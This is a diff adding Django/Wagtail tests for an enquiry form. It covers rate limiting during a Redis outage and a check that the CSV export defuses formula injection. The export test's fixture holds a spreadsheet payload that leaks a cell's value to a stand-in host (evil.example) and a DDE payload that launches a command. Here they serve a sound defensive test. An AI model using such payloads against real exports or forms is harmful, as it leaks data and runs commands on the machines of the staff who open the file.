@@ -9,6 +9,7 @@ from pathlib import Path
 from unittest import mock
 
 import pytest
+from django.contrib.auth.models import Group
 from django.contrib.sessions.models import Session
 from django.core import mail
 from django.core.cache import cache
@@ -21,6 +22,8 @@ from wagtail.models import PageViewRestriction
 from wagtail.test.utils import WagtailPageTestCase
 from wagtail.test.utils.form_data import nested_form_data, rich_text
 
+from clinicsite import environment
+from home import limits
 from home.models import EnquiryPage, HomePage
 from tests.site.test_page_queries import BUDGETS
 from tests.treatments.factories import build_indexes, default_site, make_treatment, publish, soup
@@ -34,10 +37,12 @@ pytestmark = pytest.mark.django_db
 
 @pytest.fixture(autouse=True)
 def fresh_rate_limit():
-    """The rate limit lives in the cache, which outlives a test."""
+    """The rate limit lives in the cache, and in memory for outages, which outlive a test."""
     cache.clear()
+    limits.in_memory.clear()
     yield
     cache.clear()
+    limits.in_memory.clear()
 
 
 @pytest.fixture
@@ -375,6 +380,29 @@ def test_behind_a_proxy_the_limit_is_per_visitor_not_per_proxy(client, clinic):
     assert post("") == 429
 
 
+UNREACHABLE_REDIS = environment.caches({"REDIS_URL": "redis://127.0.0.1:9/0"})
+
+
+@override_settings(ENQUIRY_RATE_LIMIT=3)
+def test_during_a_redis_outage_an_address_at_its_limit_stays_limited(client, clinic):
+    for number in range(3):
+        assert client.post("/contact/", good_data(name=f"Visitor {number}")).status_code == 302
+    with override_settings(CACHES=UNREACHABLE_REDIS):
+        statuses = [client.post("/contact/", good_data()).status_code for _ in range(8)]
+    assert statuses == [429] * 8
+    assert FormSubmission.objects.count() == 3
+
+
+@override_settings(ENQUIRY_RATE_LIMIT=3)
+def test_during_a_redis_outage_each_process_still_counts_per_address(client, clinic):
+    with override_settings(CACHES=UNREACHABLE_REDIS):
+        statuses = [client.post("/contact/", good_data()).status_code for _ in range(5)]
+        other = client.post("/contact/", good_data(), REMOTE_ADDR="192.0.2.44").status_code
+    assert statuses == [302, 302, 302, 429, 429]
+    assert other == 302  # someone else is not affected
+    assert FormSubmission.objects.count() == 4
+
+
 # --- Admin ------------------------------------------------------------------------
 
 
@@ -466,6 +494,45 @@ class EnquiryAdminTests(WagtailPageTestCase):
                 "Yes",
             ],
         )
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")',
+    "phone": "+44 20 7946 0321",
+    "message": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def export_rows(client, url):
+    response = client.get(url)
+    assert response.status_code == 200, response.status_code
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_the_csv_export_turns_formulas_a_visitor_typed_into_plain_text(client, clinic):
+    """A spreadsheet would run a cell starting with = + - @, a tab or a carriage return."""
+    page = clinic["page"]
+    assert Client().post("/contact/", good_data(**FORMULAS)).status_code == 302
+    # What the form itself cannot store (it trims the message, refuses such emails) but an
+    # older enquiry or another form could hold.
+    page.get_submission_class().objects.create(
+        page=page,
+        form_data={"name": "-2+3", "email": "\t=1+1", "phone": "", "message": "\r=1+1"},
+    )
+    manager = Group.objects.get(name="Site managers").user_set.create(username="sam")
+    client.force_login(manager)
+    rows = export_rows(client, f"/admin/forms/submissions/{page.pk}/?export=csv")
+    by_name = {row[1]: row for row in rows[1:]}
+    typed = by_name["'" + FORMULAS["name"]]
+    assert typed[2] == "jane@example.com"  # ordinary values are untouched
+    assert typed[3] == "'+44 20 7946 0321"
+    assert typed[4] == "Microneedling"
+    assert typed[5] == "'" + FORMULAS["message"]
+    other = by_name["'-2+3"]
+    assert other[2] == "'\t=1+1" and other[5] == "'\r=1+1"
+    # Excel's own file keeps them as text cells already, unchanged.
+    xlsx = client.get(f"/admin/forms/submissions/{page.pk}/?export=xlsx")
+    assert xlsx.status_code == 200
 
 
 # --- API, import, speed ---------------------------------------------------------------
